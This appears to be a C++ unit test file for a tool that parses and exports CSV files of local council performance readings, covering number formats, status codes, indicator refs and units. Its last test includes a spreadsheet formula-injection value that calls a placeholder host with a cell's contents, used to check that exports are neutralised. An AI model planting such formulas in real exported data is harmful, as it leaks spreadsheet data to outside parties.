#include "services/cli/readings_csv.h"

#include <gmock/gmock.h>

#include <utility>
#include <vector>

#include "absl/strings/str_cat.h"
#include "bellwether/testing/status_matchers.h"

namespace bellwether::cli {
namespace {

using bellwether::testing::IsError;
using bellwether::testing::IsOk;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;

constexpr const char* kCouncil = "E06000061";

ReadingsFile Parsed(std::string_view text, const Known& known = Known()) {
  absl::StatusOr<ReadingsFile> file = ParseReadings(text, kCouncil, known);
  EXPECT_THAT(file, IsOk());
  return file.ok() ? *std::move(file) : ReadingsFile{};
}

TEST(ReadingsCsvTest, EachKindOfFigure) {
  const ReadingsFile file = Parsed(
      "ref,period,value,numerator,denominator,mean,weight,reason,observation_status\n"
      "T1,2022-02,98.0,,,,,,\n"
      "T2,2022-02,50,1,2,,,,\n"
      "T3,2022-02,,1,2,,,,P\n"
      "T4,2022-02,,,,20.55,657,,\n"
      "T5,2022-02,,,,,,system down,O\n"
      "T6,2022-02,,,,,,,M\n");
  EXPECT_THAT(file.errors.Lines(), IsEmpty());
  ASSERT_THAT(file.rows, SizeIs(6));
  EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "98.0");
  EXPECT_EQ(file.rows[1].reading->measurement().ratio().value().value(), "50");
  EXPECT_FALSE(file.rows[2].reading->measurement().ratio().has_value());
  EXPECT_EQ(file.rows[3].reading->measurement().weighted_mean().weight().value(), "657");
  EXPECT_EQ(file.rows[4].reading->measurement().not_available().reason(), "system down");
  EXPECT_TRUE(file.rows[5].reading->measurement().has_not_available());
  EXPECT_EQ(file.rows[0].reading->council(), "E06000061");
}

TEST(ReadingsCsvTest, TheSameRowOfAnyFileHasTheSameId) {
  const ReadingsFile one = Parsed("ref,period,value,reading_id\nT1,2022-02,1,\nT1,2022-01,1,mine\n");
  const ReadingsFile other = Parsed("period;source;ref;value\n2022-01;x;T1;5\nFeb-22;x;T1;1\n");
  EXPECT_EQ(one.rows[0].reading->reading_id(), "");
  EXPECT_EQ(one.rows[1].reading->reading_id(), "mine");
  EXPECT_EQ(IdOf(*one.rows[0].reading), IdOf(*other.rows[1].reading));
  EXPECT_NE(IdOf(*one.rows[0].reading), IdOf(*other.rows[0].reading));
  v1::Reading correction = *one.rows[0].reading;
  correction.set_corrects("r1");
  EXPECT_NE(IdOf(*one.rows[0].reading), IdOf(correction));
}

TEST(ReadingsCsvTest, ARowWithWordsOnlyIsAComment) {
  const ReadingsFile file = Parsed("ref,period,value,comment\nT1,2022-02,1,words\nT1,2022-01,,only words\n");
  EXPECT_EQ(file.rows[0].comment->text(), "words");
  EXPECT_FALSE(file.rows[1].reading.has_value());
  EXPECT_EQ(file.rows[1].comment->text(), "only words");
  EXPECT_NE(IdOf(*file.rows[0].comment), IdOf(*file.rows[1].comment));
}

TEST(ReadingsCsvTest, SaysWhichRowsSayNothingOrTooMuch) {
  const ReadingsFile file = Parsed(
      "ref,period,value,mean,weight,published_arrow\nT1,2022-02,,,,\nT1,2022-01,1,2,3,\nT1,2022-03,5,,,\nT1,2022-04,,,,"
      "x\n");
  EXPECT_THAT(file.notes, ElementsAre(HasSubstr("1 rows that are not filled in (line 2: T1 2022-02)")));
  EXPECT_THAT(file.errors.Lines(), ElementsAre(HasSubstr("line 3 (T1 2022-01): fill value, or"),
                                               HasSubstr("line 5 (T1 2022-04): neither a figure nor a comment")));
  EXPECT_THAT(file.rows, SizeIs(1));
  EXPECT_THAT(ParseReadings("period,value\n", kCouncil, Known()),
              IsError(absl::StatusCode::kInvalidArgument, "\"ref\" is missing"));
}

TEST(ReadingsCsvTest, WhatStandsBesideAFigureNeedsOne) {
  const ReadingsFile file = Parsed("ref,period,value,volume,comment\nT1,2022-02,,12,words\nT1,2022-03,,,words\n");
  EXPECT_THAT(file.errors.Lines(), ElementsAre(HasSubstr("line 2 (T1 2022-02): what stands beside a figure, and no")));
  EXPECT_THAT(file.rows, SizeIs(1));
}

TEST(ReadingsCsvTest, ACommaOfOneFigureMakesThoseOfOthersUnsure) {
  // Cells are divided by commas, and quoted figures show that tenths are too.
  const ReadingsFile file = Parsed(
      "ref,period,value\nT1,2022-01,\"47,5\"\nT1,2022-02,\"25,579\"\nT1,2022-03,25.579\nT1,2022-04,12.5\nT1,2022-05,"
      "40\n");
  EXPECT_THAT(file.errors.Lines(),
              ElementsAre(HasSubstr("line 2 (T1 2022-01): value: \"47,5\" has a decimal comma"),
                          HasSubstr("line 3 (T1 2022-02): value: \"25,579\" can be 25.579 and 25579"),
                          HasSubstr("line 4 (T1 2022-03): value: \"25.579\" can be 25.579 and 25579")));
  EXPECT_THAT(file.rows, SizeIs(2));
  EXPECT_EQ(Parsed("ref,period,value\nT1,2022-02,\"25,579\"\n").rows[0].reading->measurement().value().value(),
            "25579");
}

TEST(ReadingsCsvTest, WordsOfObservationStatus) {
  const ReadingsFile file = Parsed(
      "ref,period,value,observation_status\nT1,2022-01,,Suppressed\nT1,2022-02,,not "
      "collected\nT1,2022-03,5,Provisional\n"
      "T1,2022-04,,Not-applicable\nT1,2022-05,,q\nT1,2022-06,,hidden\nT1,2022-07,,P\n");
  std::vector<std::string> codes;
  for (const ReadingsRow& row : file.rows) codes.push_back(row.reading->observation_status());
  // What is no status is for the service to refuse; a figure's status by itself is one to be filled in.
  EXPECT_THAT(codes, ElementsAre("Q", "L", "P", "M", "Q", "hidden"));
  EXPECT_TRUE(file.rows[5].reading->measurement().has_not_available());
  EXPECT_THAT(file.notes, ElementsAre(HasSubstr("4 words read as the codes that they mean (first: line 2, "
                                                "observation_status: \"Suppressed\" as \"Q\")"),
                                      HasSubstr("1 codes read in capitals"),
                                      HasSubstr("1 rows that are not filled in (line 8: T1 2022-07)")));
}

Known KnownCouncil() {
  Known known;
  for (const auto& [ref, unit] : std::vector<std::pair<std::string, std::string>>{{"T1", "percent"},
                                                                                  {"T17", "days"},
                                                                                  {"9.1", "count"},
                                                                                  {"9.10", "count"},
                                                                                  {"8.20", "count"},
                                                                                  {"PK1", "pounds"}}) {
    v1::IndicatorDefinition definition;
    definition.set_ref(ref);
    definition.set_unit(unit);
    definition.set_description("what " + ref + " measures");
    if (ref == "T1") definition.add_alternate_refs("NI 14");
    known.Add(kCouncil, definition);
  }
  return known;
}

TEST(ReadingsCsvTest, RefsAreReadWhereOneCanBeMeant) {
  const Known known = KnownCouncil();
  const ReadingsFile file = Parsed(
      "ref,period,value\nNI 14,2022-02,1\nt17,2022-02,2\n8.2,2022-02,3\n9.1,2022-02,4\n'9.10,2022-02,5\nZ9,2022-02,6\n",
      known);
  std::vector<std::string> refs;
  for (const ReadingsRow& row : file.rows) refs.push_back(row.reading->ref());
  EXPECT_THAT(refs, ElementsAre("T1", "T17", "8.20", "9.1", "9.10", "Z9"));
  EXPECT_THAT(
      file.notes,
      ElementsAre(HasSubstr("3 refs read as the indicators that they mean (first: line 2, ref: \"NI 14\" as \"T1\"")));
  // Alone it may have been the other one.
  EXPECT_THAT(Parsed("ref,period,value\n9.1,2022-02,4\n", known).notes, ElementsAre(HasSubstr("9.1, or 9.10")));
}

TEST(ReadingsCsvTest, SignsMustFitTheUnit) {
  const Known known = KnownCouncil();
  const ReadingsFile right =
      Parsed("ref,period,value\nT1,2022-02,71%\nPK1,2022-02,\"\u00A325,579\"\nT17,2022-02,18.5 days\n", known);
  ASSERT_THAT(right.rows, SizeIs(3));
  EXPECT_THAT(right.notes, SizeIs(3));
  EXPECT_EQ(right.rows[2].reading->measurement().value().value(), "18.5");
  const ReadingsFile wrong = Parsed(
      "ref,period,value,numerator,denominator\nT17,2022-02,71%,,\nT1,2022-02,\u00A35,,\nT1,2022-01,,5%,10\n", known);
  EXPECT_THAT(wrong.rows, IsEmpty());
  EXPECT_THAT(wrong.errors.Lines(), ElementsAre(HasSubstr("the unit of T17 is days"),
                                                HasSubstr("the unit of T1 is percent"), HasSubstr("% sign")));
}

TEST(ReadingsCsvTest, RowsThatMovedAgainstTheirRefsAreTold) {
  const ReadingsFile file = Parsed(
      "ref,description,period,value\nT1,what T1 measures,2022-02,1\nT17,what PK1 measures,2022-02,2\nPK1,my "
      "words,2022-02,3\n",
      KnownCouncil());
  EXPECT_THAT(file.rows, SizeIs(2));
  EXPECT_THAT(file.errors.Lines(), ElementsAre(HasSubstr("is what PK1 measures, and the ref is T17")));
}

TEST(ReadingsCsvTest, WhatASpreadsheetMadeOfAFigureInForceIsThatFigure) {
  Known known = KnownCouncil();
  v1::ReadingInForce in_force;
  v1::Reading& reading = *in_force.mutable_reading();
  reading.set_council(kCouncil);
  reading.set_ref("T1");
  reading.set_period("2022-02");
  reading.mutable_measurement()->mutable_value()->set_value("91.00");
  reading.mutable_other()->mutable_amount()->set_value("206933536.09");
  reading.mutable_other()->mutable_volume()->set_value("401700887000");
  reading.set_published_arrow("\u2191G");
  reading.set_as_at("2022-03-02");
  known.Add(in_force);
  // Else it could be either.
  for (const char* day : {"02/03/2022", "3/2/2022", "2022-03-02"}) {
    EXPECT_EQ(Parsed(absl::StrCat("ref,period,value,as_at\nT1,Feb-22,91,", day, "\n"), known).rows[0].reading->as_at(),
              "2022-03-02");
  }
  EXPECT_THAT(Parsed("ref,period,value,as_at\nT1,Feb-22,91,04/03/2022\n", known).errors.Lines(),
              ElementsAre(HasSubstr("as_at")));
  const std::string text =
      "ref,period,value,amount,volume,published_arrow\nT1,Feb-22,91,206933536.1,4.01701E+11,\u00E2\u2020\u2018G\n";
  const ReadingsFile file = Parsed(text, known);
  ASSERT_THAT(file.rows, SizeIs(1)) << file.errors.Text();
  EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "91.00");
  EXPECT_EQ(file.rows[0].reading->other().amount().value(), "206933536.09");
  EXPECT_EQ(file.rows[0].reading->other().volume().value(), "401700887000");
  EXPECT_EQ(file.rows[0].reading->published_arrow(), "\u2191G");
  EXPECT_EQ(Parsed("ref,period,value\nT1,2022-02,91.5\n", known).rows[0].reading->measurement().value().value(),
            "91.5");
  const auto written = ParseReadings("ref,period,value\nT1,2022-02,91\n", kCouncil, known, /*as_written=*/true);
  ASSERT_THAT(written, IsOk());
  EXPECT_EQ(written->rows[0].reading->measurement().value().value(), "91");
}

TEST(ReadingsCsvTest, MarksAndStatusesMustAgree) {
  const ReadingsFile file = Parsed(
      "ref,period,value,observation_status\nT1,2022-01,[c],\nT1,2022-02,92 [p],\nT1,2022-03,92 "
      "[p],e\nT1,2022-04,<5,\n");
  ASSERT_THAT(file.rows, SizeIs(3));
  EXPECT_EQ(file.rows[0].reading->observation_status(), "Q");
  EXPECT_TRUE(file.rows[0].reading->measurement().has_not_available());
  EXPECT_EQ(file.rows[1].reading->observation_status(), "P");
  EXPECT_EQ(file.rows[2].reading->measurement().not_available().reason(), "<5");
  EXPECT_THAT(file.errors.Lines(), ElementsAre(HasSubstr("line 4")));
}

TEST(ReadingsCsvTest, WhatATemplateAsksFor) {
  v1::DueReading due;
  due.set_ref("9.10");
  due.set_period("2022-03");
  due.set_description("what 9.10 measures");
  due.set_unit("count");
  due.set_due_date("2022-04-15");
  due.mutable_owner()->set_name("Ada");
  due.mutable_last_measurement()->mutable_value()->set_value("91.0");
  std::string text = Template(kCouncil, {due}, KnownCouncil());
  EXPECT_EQ(text,
            "ref,description,unit,period,value,last_figure,due_date,owner,observation_status,reason,comment\r\n'9.10,"
            "what 9.10 "
            "measures,count,2022-03,,91.0,2022-04-15,Ada,,,\r\n");
  EXPECT_THAT(Parsed(text, KnownCouncil()).notes, ElementsAre(HasSubstr("not filled in")));
  due.clear_last_measurement();
  due.mutable_last_measurement()->mutable_ratio()->mutable_numerator()->set_value("1");
  EXPECT_THAT(Template(kCouncil, {due}, KnownCouncil()), HasSubstr("period,numerator,denominator,last_figure"));
}

TEST(ReadingsCsvTest, WhatIsExportedIsSubmittedAsItWas) {
  const std::string text =
      "council,ref,period,reading_id,corrects,value,numerator,denominator,mean,weight,volume,amount,amount_in_period,"
      "attainment,"
      "observation_status,as_at,published_arrow,published_status,reason,source,comment,comment_id\r\n"
      "E06000061,T15,2022-02,r1,r0,94.94,,,,,,206933536.09,401700887,98.9,P,2022-02-28,↓,Amber,,revenues,"
      "\"two\nlines\",c1\r\n"
      "E06000061,T17,2022-02,r2,,,,,20.55,657,12,,,,A,,,,,,,\r\n"
      "E06000061,T1,2022-02,r3,,85.71,24,28,,,,,,,A,,,,,,,\r\n"
      "E06000061,T1,2022-03,r4,,,,,,,,,,,M,,,,does not apply,,,\r\n"
      "E06000061,T1,2022-04,,,,,,,,,,,,,,,,,me,only words,c5\r\n";
  const ReadingsFile file = Parsed(text);
  ASSERT_THAT(file.rows, SizeIs(5));
  std::string again = ReadingsHeader();
  for (const ReadingsRow& row : file.rows) {
    v1::ReadingInForce in_force;
    if (row.reading) *in_force.mutable_reading() = *row.reading;
    if (row.comment) *in_force.mutable_comment() = *row.comment;
    again += ReadingsLine(in_force);
  }
  EXPECT_EQ(again, text);
}

TEST(ReadingsCsvTest, AnExportIsInertAndComesBackTheSame) {
  v1::ReadingInForce in_force;
  v1::Reading& reading = *in_force.mutable_reading();
  reading.set_council("E06000061");
  reading.set_ref("T1");
  reading.set_period("2022-02");
  reading.set_reading_id("r1");
  reading.mutable_measurement()->mutable_value()->set_value("-3.5");
  reading.set_published_arrow("-");
  v1::Comment& comment = *in_force.mutable_comment();
  comment.set_text("=HYPERLINK(\"http://example.invalid/?x=\"&B2,\"open\")");
  const std::string line = ReadingsLine(in_force);
  EXPECT_THAT(line, HasSubstr(",-3.5,"));
  EXPECT_THAT(line, HasSubstr(",'-,"));
  EXPECT_THAT(line, HasSubstr("\"'=HYPERLINK("));
  const ReadingsFile file = Parsed(ReadingsHeader() + line);
  ASSERT_THAT(file.rows, SizeIs(1));
  EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "-3.5");
  EXPECT_EQ(file.rows[0].reading->published_arrow(), "-");
  EXPECT_EQ(file.rows[0].comment->text(), comment.text());
}

}  // namespace
}  // namespace bellwether::cli
